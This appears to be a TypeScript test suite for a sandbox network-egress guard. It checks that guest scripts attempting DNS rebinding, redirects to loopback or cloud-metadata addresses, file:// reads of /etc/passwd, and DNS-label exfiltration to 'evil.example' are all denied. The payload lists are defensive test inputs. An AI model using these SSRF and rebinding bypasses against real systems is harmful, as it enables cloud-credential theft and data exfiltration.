import assert from "node:assert/strict"
import { test } from "node:test"
import { meshGuest, resultOf, tryFetch } from "./mesh-guest.ts"
import { serveHttp } from "./upstream.ts"

const metadata = "169.254.169.254"

test("DNS rebinding: what was checked is what is dialled, whatever the name server says by then", async (t) => {
  let hits = 0
  const port = await serveHttp(t, (_request, response) => {
    hits++
    response.end("inside")
  })
  let asked = 0
  // One address for whoever checks, another one for whoever asks again to connect: nobody asks again.
  const lookup = (): Promise<string[]> => Promise.resolve(asked++ % 2 === 0 ? ["127.0.0.2"] : ["127.0.0.1"])
  const guest = meshGuest(t, { lookup, lookupMaxAgeMs: 0, timeouts: { connectMs: 500 } })
  const script = `${tryFetch} const answers = []
    for (let n = 0; n < 6; n++) answers.push(await tryFetch(input))
    return answers`
  const origin = `http://rebind.example:${port}`
  const answers = resultOf(await guest.attack(script, { allowedOrigins: [origin] }, origin))
  assert.deepEqual(answers, Array<string[]>(3).fill(["mesh.unreachable", "200 inside"]).flat())
  assert.deepEqual([hits, asked], [3, 6])
  // Under a policy that names nothing, neither of them is reached.
  const unnamed = resultOf(await guest.attack(script, { defaultPolicy: "allow" }, origin))
  assert.deepEqual([...new Set(unnamed as string[]), hits], ["mesh.denied", 3])
})

test("TTL-0 flips: each answer of a name server is checked, and a kept connection is no way around", async (t) => {
  const seen: (string | undefined)[] = []
  const port = await serveHttp(t, (request, response) => {
    seen.push(request.url)
    response.end("reached")
  })
  const origin = `http://flip.example:${port}`
  const answers = [["127.0.0.1"], [metadata], ["127.0.0.1"], ["127.0.0.1", metadata], ["::ffff:a9fe:a9fe"], []]
  let asked = 0
  const guest = meshGuest(t, { lookup: () => Promise.resolve(answers[asked++] ?? []), lookupMaxAgeMs: 0 })
  const script = `${tryFetch} const all = []
    for (let n = 0; n < 6; n++) all.push(await tryFetch(input + "/" + n))
    return all`
  const found = resultOf(await guest.attack(script, { allowedOrigins: [origin] }, origin))
  assert.deepEqual(found, [
    "200 reached",
    "mesh.denied",
    "200 reached",
    "mesh.denied",
    "mesh.denied",
    "mesh.unreachable",
  ])
  assert.deepEqual(seen, ["/0", "/2"])
})

test("redirects to private addresses, metadata and other schemes are refused hop by hop", async (t) => {
  let target = ""
  const inner = await serveHttp(t, () => assert.fail("a private address was reached"))
  const outer = await serveHttp(t, (_request, response) => response.writeHead(302, { location: target }).end())
  const origin = `http://127.0.0.1:${outer}`
  const guest = meshGuest(t, { lookup: () => Promise.resolve(["127.0.0.1"]) })
  for (target of [
    `http://127.0.0.1:${inner}/`,
    `http://localhost:${inner}/`,
    `http://2130706433:${inner}/`,
    `http://[::ffff:127.0.0.1]:${inner}/`,
    `//127.0.0.1:${inner}/`,
    `\\\\127.0.0.1:${inner}\\`,
    `http://name.example:${inner}/`,
    `http://${metadata}/latest/meta-data/`,
    `http://user@127.0.0.1:${outer}/`,
    "file:///etc/passwd",
    "data:text/plain,inside",
    "javascript:1",
    "http://",
  ]) {
    const run = await guest.attack(
      `${tryFetch} return tryFetch(input)`,
      { defaultPolicy: "allow", allowedOrigins: [origin] },
      origin,
    )
    assert.match(resultOf(run) as string, /^mesh\.(denied|unreachable)$/, target)
  }
})

test("names of metadata services and of this machine lead nowhere, whoever resolves them", async (t) => {
  const names: Readonly<Record<string, readonly string[]>> = {
    "metadata.google.internal": [metadata],
    "instance-data.ec2.internal": [metadata],
    "six.example": ["fd00:ec2::254"],
    "azure.example": ["168.63.129.16"],
    "alibaba.example": ["100.100.100.200"],
    "local.example": ["127.0.0.1"],
    "lan.example": ["192.168.1.1"],
    "mapped.example": ["::ffff:10.0.0.1"],
    "nat64.example": ["64:ff9b::a00:1"],
    "mixed.example": ["93.184.216.34", "10.0.0.1"],
    "zone.example": ["fe80::1%eth0"],
    "nonsense.example": ["not an address"],
  }
  const guest = meshGuest(t, { lookup: (name) => Promise.resolve(names[name] ?? []) })
  const script = `${tryFetch} const all = {}
    for (const name of input) all[name] = await tryFetch("http://" + name + "/")
    return all`
  const found = resultOf(await guest.attack(script, { defaultPolicy: "allow" }, Object.keys(names)))
  assert.deepEqual(found, Object.fromEntries(Object.keys(names).map((name) => [name, "mesh.denied"])))
})

test("the platform's own port is closed to programs, by every name and also when a rule names it", async (t) => {
  const port = await serveHttp(t, () => assert.fail("the platform's own port was reached"))
  const guest = meshGuest(t, { ownPorts: () => [port], lookup: () => Promise.resolve(["127.0.0.1"]) })
  const origins = ["localhost", "127.0.0.1", "[::1]", "127.1", "0.0.0.0", "me.example"].map(
    (host) => `http://${host}:${port}`,
  )
  const script = `${tryFetch} const all = []
    for (const origin of input) all.push(await tryFetch(origin))
    return all`
  const run = await guest.attack(script, { allowedOrigins: origins }, origins)
  assert.deepEqual(
    resultOf(run),
    origins.map(() => "mesh.denied"),
  )
  assert.deepEqual([...new Set(run.egress.map(({ reason }) => reason))], ["own-listener"])
})

test("data in the labels of a denied name reaches no name server", async (t) => {
  const guest = meshGuest(t, { lookup: (name) => assert.fail(`${name} was looked up`) })
  const script = `${tryFetch} const all = []
    for (let n = 0; n < 20; n++) all.push(await tryFetch("https://" + "secret-" + n + ".evil.example"))
    return all`
  const found = resultOf(await guest.attack(script, { allowedOrigins: ["https://good.example"] }))
  assert.deepEqual([...new Set(found as string[])], ["mesh.denied"])
})
